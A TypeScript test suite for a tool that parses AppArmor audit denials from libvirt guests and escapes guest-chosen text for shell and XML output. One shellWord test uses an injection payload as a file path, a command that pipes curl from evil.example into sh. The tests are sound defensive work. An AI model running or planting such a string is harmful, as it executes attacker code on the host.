/**
 * The pieces of `denials` below the command: the audit line parser on every form a line takes
 * (dmesg, syslog, auditd's raw and enriched formats, the journal's JSON), the kernel's masks,
 * `--since`, rule coverage, escaping.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FIXED_SEED, RANDOM_SEED } from "../hostile/arbitraries.js";
import { visible } from "../../src/audit/display.js";
import { covers } from "../../src/audit/map.js";
import { guestUuidOf, parseAuditLine, permsOfMask } from "../../src/audit/parse.js";
import { parseSince } from "../../src/audit/since.js";
import { isSyslogKernelDecision, journalMessage } from "../../src/audit/sources.js";
import { LineSplitter } from "../../src/audit/lines.js";
import { commandSafe, shellWord, xmlAttr } from "../../src/audit/quote.js";
import { spawnSync } from "node:child_process";

// A real line (test/fixtures/denials/helper-boot1.dmesg.txt).
const REAL =
  '[   72.783329] audit: type=1400 audit(1796465974.904:20): apparmor="DENIED" operation="open" profile="libvirt-1ab0000a-0000-4000-8000-00000000000a" name="/etc/shadow" pid=516 comm="qemu-system-x86" requested_mask="r" denied_mask="r" fsuid=64055 ouid=0';
const FIELDS = 'apparmor="DENIED" operation="open" profile="libvirt-1ab0000a-0000-4000-8000-00000000000a" name="/etc/shadow" pid=516 comm="qemu-system-x86" requested_mask="r" denied_mask="r" fsuid=64055 ouid=0';

describe("parseAuditLine", () => {
  const expected = {
    decision: "DENIED",
    time: 1796465974.904,
    serial: 20,
    operation: "open",
    profile: "libvirt-1ab0000a-0000-4000-8000-00000000000a",
    name: Buffer.from("/etc/shadow"),
    requested: "r",
    denied: "r",
    comm: Buffer.from("qemu-system-x86"),
    pid: 516,
  };

  it("the same record from dmesg, kern.log, audit.log (raw and enriched) and the journal", () => {
    expect(parseAuditLine(REAL)).toEqual(expected);
    expect(parseAuditLine(`Dec  5 10:19:34 lab kernel: ${REAL}`)).toEqual(expected);
    expect(parseAuditLine(`type=AVC msg=audit(1796465974.904:20): ${FIELDS}`)).toEqual(expected);
    // auditd's log_format = ENRICHED: interpreted fields after a \x1d.
    expect(parseAuditLine(`type=AVC msg=audit(1796465974.904:20): ${FIELDS}\x1dFSUID="libvirt-qemu" OUID="root"`)).toEqual(expected);
    const journal = JSON.stringify({ __REALTIME_TIMESTAMP: "1796465974904000", _TRANSPORT: "kernel", MESSAGE: REAL.slice(REAL.indexOf("audit:")) });
    expect(parseAuditLine(journalMessage(journal)!)).toEqual(expected);
  });

  it("hex-encoded untrusted strings are decoded to their bytes; a quoted value or a number field never is", () => {
    const r = parseAuditLine(`audit(1.5:7): apparmor="DENIED" operation="open" profile="libvirt-1ab0000a-0000-4000-8000-00000000000a" name=2F746D702F61206220FF pid=1234 comm=71656D751B5D requested_mask="wr" denied_mask="w"`)!;
    expect(r.name).toEqual(Buffer.from([...Buffer.from("/tmp/a b "), 0xff]));
    expect(r.comm).toEqual(Buffer.from("qemu\x1b]"));
    expect(r.pid).toBe(1234);
    expect(r.requested).toBe("rw");
    expect(parseAuditLine(`apparmor="DENIED" operation="open" profile="p" name="2F74"`)!.name).toEqual(Buffer.from("2F74"));
  });

  it("a field a path cannot forge: the kernel's first occurrence wins, and a quoted path holds no quote", () => {
    // As if a syslog line had a second profile= after the kernel's (the kernel itself hex-encodes a name with a quote).
    const r = parseAuditLine(`apparmor="DENIED" operation="open" profile="libvirt-1ab0000b-0000-4000-8000-00000000000b" name="/x" profile="libvirt-1ab0000a-0000-4000-8000-00000000000a"`)!;
    expect(r.profile).toBe("libvirt-1ab0000b-0000-4000-8000-00000000000b");
  });

  it("not a decision: STATUS and AUDIT lines, lines without apparmor=, without a profile", () => {
    expect(parseAuditLine('audit(1.0:1): apparmor="STATUS" operation="profile_load" profile="unconfined" name="libvirtd"')).toBeUndefined();
    expect(parseAuditLine('audit(1.0:1): apparmor="AUDIT" operation="exec" profile="libvirtd" name="/usr/lib/libvirt/virt-aa-helper"')).toBeUndefined();
    expect(parseAuditLine("kernel: usb 1-1: new device")).toBeUndefined();
    expect(parseAuditLine('apparmor="DENIED" operation="open" name="/x"')).toBeUndefined();
  });

  it("capability denials carry capname and no name", () => {
    const r = parseAuditLine('[   51.293147] audit: type=1400 audit(1796465953.412:16): apparmor="DENIED" operation="capable" profile="virt-aa-hook" pid=524 comm="node" capability=19  capname="sys_ptrace"')!;
    expect(r.capname).toBe("sys_ptrace");
    expect(r.name).toBeUndefined();
  });
});

describe("masks, profiles, since, coverage, escaping", () => {
  it("permsOfMask: the kernel's letters as a profile's", () => {
    expect(permsOfMask("r")).toBe("r");
    expect(permsOfMask("wr")).toBe("rw");
    expect(permsOfMask("wc")).toBe("w");
    expect(permsOfMask("d")).toBe("w");
    expect(permsOfMask("::r")).toBe("r");
    expect(permsOfMask("rk")).toBe("rk");
    expect(permsOfMask("x")).toBe("x");
  });

  it("guestUuidOf: only libvirt-<canonical uuid> (and its children)", () => {
    expect(guestUuidOf("libvirt-1ab0000a-0000-4000-8000-00000000000a")).toBe("1ab0000a-0000-4000-8000-00000000000a");
    expect(guestUuidOf("libvirt-1ab0000a-0000-4000-8000-00000000000a//null-/usr/bin/x")).toBe("1ab0000a-0000-4000-8000-00000000000a");
    for (const p of ["libvirtd", "virt-aa-hook", "libvirt-1ab0000a-0000-4000-8000-00000000000a-evil", "libvirt-1AB0000A-0000-4000-8000-00000000000A", "xlibvirt-1ab0000a-0000-4000-8000-00000000000a"]) {
      expect(guestUuidOf(p)).toBeUndefined();
    }
  });

  it("parseSince", () => {
    const now = Date.UTC(2026, 11, 5, 12, 0, 0);
    expect(parseSince("10min", now)).toBe(now / 1000 - 600);
    expect(parseSince("10 min ago", now)).toBe(now / 1000 - 600);
    expect(parseSince("2h", now)).toBe(now / 1000 - 7200);
    expect(parseSince("1 day ago", now)).toBe(now / 1000 - 86400);
    expect(parseSince("90s", now)).toBe(now / 1000 - 90);
    expect(parseSince("@1796465974.5", now)).toBe(1796465974.5);
    expect(parseSince("2026-12-05T10:19:34Z", now)).toBe(Date.UTC(2026, 11, 5, 10, 19, 34) / 1000);
    expect(parseSince("2026-12-05T11:19:34+01:00", now)).toBe(Date.UTC(2026, 11, 5, 10, 19, 34) / 1000);
    expect(parseSince("2026-12-05 10:19", now)).toBe(new Date(2026, 11, 5, 10, 19).getTime() / 1000);
    expect(parseSince("2026-12-05", now)).toBe(new Date(2026, 11, 5).getTime() / 1000);
    for (const bad of ["yesterday", "10 fortnights", "2026-13-01", "", "@x"]) expect(parseSince(bad, now)).toBeUndefined();
  });

  it("covers: each glob suffix, directories logged with a trailing slash", () => {
    const rule = (path: string, suffix: "" | "/" | "/**" | "{,/**}" | "/*") => ({ path, suffix, perms: "r", source: "s" });
    expect(covers(rule("/a/b", ""), "/a/b")).toBe(true);
    expect(covers(rule("/a/b", ""), "/a/bc")).toBe(false);
    expect(covers(rule("/a/b", "{,/**}"), "/a/b/")).toBe(true);
    expect(covers(rule("/a/b", "{,/**}"), "/a/b/c/d")).toBe(true);
    expect(covers(rule("/a/b", "{,/**}"), "/a/bc")).toBe(false);
    expect(covers(rule("/a/b", "/**"), "/a/b")).toBe(false);
    expect(covers(rule("/a/b", "/**"), "/a/b/c")).toBe(true);
    expect(covers(rule("/a/b", "/*"), "/a/b/c")).toBe(true);
    expect(covers(rule("/a/b", "/*"), "/a/b/c/")).toBe(true);
    expect(covers(rule("/a/b", "/*"), "/a/b/c/d")).toBe(false);
    expect(covers(rule("/a/b", "/"), "/a/b/")).toBe(true);
  });

  it("visible: printable ASCII kept; backslash, quote, control and non-ASCII bytes escaped", () => {
    expect(visible(Buffer.from("/a b/c.img"))).toBe("/a b/c.img");
    expect(visible(Buffer.from('/a\\b"\x1b[2J\x7f'))).toBe("/a\\\\b\\x22\\x1b[2J\\x7f");
    expect(visible(Buffer.from("/é"))).toBe("/\\xc3\\xa9");
  });

  it("journalMessage: a MESSAGE given as bytes (not UTF-8) is read byte for byte", () => {
    const bytes = [...Buffer.from('audit(1.0:1): apparmor="DENIED" operation="open" profile="p" name=2F')];
    expect(journalMessage(JSON.stringify({ MESSAGE: bytes }))).toBe(Buffer.from(bytes).toString("latin1"));
    expect(journalMessage(JSON.stringify({ MESSAGE: "kernel: something else" }))).toBeUndefined();
  });
});

describe("hostile names (property, fast-check: the hostile suite's fixed seed, then a random one)", () => {
  for (const seed of [FIXED_SEED, RANDOM_SEED]) {
    it(`seed ${seed}: any bytes as the kernel writes them come back whole, in the line's own profile, and print as printable ASCII`, () => {
      fc.assert(
        fc.property(fc.uint8Array({ minLength: 1, maxLength: 300 }), fc.boolean(), (bytes, quotedIfPlain) => {
          const name = Buffer.from(bytes);
          // audit_log_untrustedstring: quoted when plain (no quote, blank, control byte or byte > 0x7e), else hex.
          const plain = name.every((b) => b > 0x20 && b < 0x7f && b !== 0x22);
          const field = plain && quotedIfPlain ? `"${name.toString("latin1")}"` : name.toString("hex").toUpperCase();
          const r = parseAuditLine(`audit(1796465974.904:20): apparmor="DENIED" operation="open" profile="libvirt-1ab0000b-0000-4000-8000-00000000000b" name=${field} pid=1 comm="qemu-system-x86" requested_mask="r" denied_mask="r"`);
          expect(r?.profile).toBe("libvirt-1ab0000b-0000-4000-8000-00000000000b");
          expect(r?.name).toEqual(name);
          expect(visible(name)).toMatch(/^[\x20-\x7e]*$/);
        }),
        { seed, numRuns: 300 },
      );
    });
  }
});

describe("printing guest-chosen text (review19 F3)", () => {
  it("shellWord: /bin/sh reads back exactly the text, whatever printable ASCII it holds (property, fixed seed)", () => {
    const texts = fc.sample(fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 40 }), { seed: FIXED_SEED, numRuns: 60 });
    texts.push("/var/lib/libvirt/images/x;curl${IFS}-s${IFS}evil.example|sh;#", "it's", "'", "$(id)`id`\\");
    const script = texts.map((t) => `printf '%s\\0' ${shellWord(t)}`).join("; ");
    const out = spawnSync("/bin/sh", ["-c", script], { encoding: "latin1" });
    expect(out.status).toBe(0);
    expect(out.stdout.split("\0").slice(0, -1)).toEqual(texts);
  });

  it("commandSafe: plain path characters only; shell, glob, blank, quote, escape characters are not", () => {
    expect(commandSafe("/var/lib/libvirt/images/lab-a_1.2+x,y:z@%=.qcow2")).toBe(true);
    for (const c of [";", "|", "&", "$", "`", "(", ")", "{", "}", "<", ">", "#", "*", "?", "[", "]", "^", "!", "~", "'", '"', "\\", " ", "\t"]) expect(commandSafe(`/a${c}b`)).toBe(false);
    expect(commandSafe("")).toBe(false);
  });

  it("xmlAttr: & < > \" ' as entities", () => {
    expect(xmlAttr(`a&b<c>d"e'f`)).toBe("a&amp;b&lt;c&gt;d&quot;e&apos;f");
  });
});

describe("lines of logs (review19 F4, F9)", () => {
  it("LineSplitter: lines across chunks, CRLF, a last line without newline; a line over the limit dropped whole, the next one kept", () => {
    const got: string[] = [];
    const s = new LineSplitter((l) => got.push(l), 10);
    for (const chunk of ["ab", "c\nde\r\nf", "", "\n0123456789", "X", "YZ", "\nok\nlast"]) s.push(chunk);
    s.end();
    expect(got).toEqual(["abc", "de", "f", "ok", "last"]);
  });

  it("isSyslogKernelDecision: the kernel's tag and audit format only", () => {
    const k = 'audit: type=1400 audit(1796465974.904:20): apparmor="DENIED" operation="open" profile="p" name="/x"';
    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: [   72.783329] ${k}`)).toBe(true);
    expect(isSyslogKernelDecision(`Dec 15 10:30:00 lab kernel: ${k}`)).toBe(true);
    expect(isSyslogKernelDecision(`2026-12-05T10:30:00.123456+01:00 lab kernel: ${k}`)).toBe(true);
    expect(isSyslogKernelDecision(`<4>1 2026-12-05T10:30:00Z lab kernel - - - ${k}`)).toBe(true);
    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab alice: ${k}`)).toBe(false);
    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel-x: ${k}`)).toBe(false);
    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: x ${k}`)).toBe(false);
    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: ${k.replace('apparmor="DENIED"', 'apparmor="STATUS"')}`)).toBe(false);
  });
});
